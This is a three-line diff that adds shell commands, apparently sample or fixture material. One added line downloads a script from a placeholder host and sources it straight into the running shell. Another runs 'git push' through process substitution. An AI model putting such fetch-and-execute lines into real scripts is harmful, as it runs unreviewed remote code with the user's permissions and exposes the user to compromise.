@@ -1,0 +1,3 @@
+source <(curl example.invalid/x)
+. ./env.sh
+bash <(echo 'git push')
